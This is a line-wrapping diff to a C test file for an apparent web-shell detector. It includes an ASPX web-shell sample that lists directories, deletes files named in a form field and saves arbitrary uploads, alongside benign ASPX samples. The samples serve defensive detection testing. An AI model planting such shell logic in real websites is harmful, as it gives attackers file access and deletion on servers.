@@ -156,7 +156,8 @@ static const sample k_shells[] = {
      "string p = Request.QueryString[\"p\"];\r\n"
      "foreach (var d in System.IO.Directory.GetDirectories(p)) "
      "Response.Write(d);\r\n"
-     "if (Request.Form[\"rm\"] != null) System.IO.File.Delete(Request.Form[\"rm\"]);"
+     "if (Request.Form[\"rm\"] != null) "
+     "System.IO.File.Delete(Request.Form[\"rm\"]);"
      "\r\nif (Request.Files.Count > 0) Request.Files[0].SaveAs(p + "
      "Request.Files[0].FileName);\r\n%>"},
     /* ASPX SQL console */
@@ -209,7 +210,8 @@ static const sample k_benign[] = {
      " i.Arguments = \"-p\"; i.UseShellExecute = false;\r\n"
      " i.RedirectStandardOutput = true;\r\n"
      " Out.Text = System.Diagnostics.Process.Start(i).StandardOutput"
-     ".ReadToEnd(); }\r\n</script>\r\n<asp:Label id=\"Out\" runat=\"server\"/>"},
+     ".ReadToEnd(); }\r\n</script>\r\n<asp:Label id=\"Out\" "
+     "runat=\"server\"/>"},
     /* an upload handler saving under a new name in a fixed folder */
     {"/web/upload.ashx", NULL,
      "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\r\n"
@@ -227,7 +229,8 @@ static const sample k_benign[] = {
      " using (var c = new System.Data.SqlClient.SqlConnection("
      "ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\r\n"
      " var q = new System.Data.SqlClient.SqlCommand(\"SELECT Name FROM Items "
-     "WHERE Id = @id\", c);\r\n q.Parameters.AddWithValue(\"@id\", Id.Text);\r\n"
+     "WHERE Id = @id\", c);\r\n q.Parameters.AddWithValue(\"@id\", "
+     "Id.Text);\r\n"
      " c.Open(); Grid.DataSource = q.ExecuteReader(); Grid.DataBind(); } }"
      "\r\n</script>\r\n<asp:TextBox id=\"Id\" runat=\"server\"/>"},
     /* a web service doing arithmetic */
@@ -252,10 +255,10 @@ static const sample k_benign[] = {
 /* ---- helpers ------------------------------------------------------------- */
 
 typedef struct found {
-  size_t n_medium;   /* findings at medium or above */
-  bool has;          /* the expected rule among them */
-  const char *want;  /* rule id without "yara." */
-  char first[128];   /* first medium+ rule, for messages */
+  size_t n_medium;  /* findings at medium or above */
+  bool has;         /* the expected rule among them */
+  const char *want; /* rule id without "yara." */
+  char first[128];  /* first medium+ rule, for messages */
 } found;
 
 static void on_finding(const sp_agg *a, void *user) {
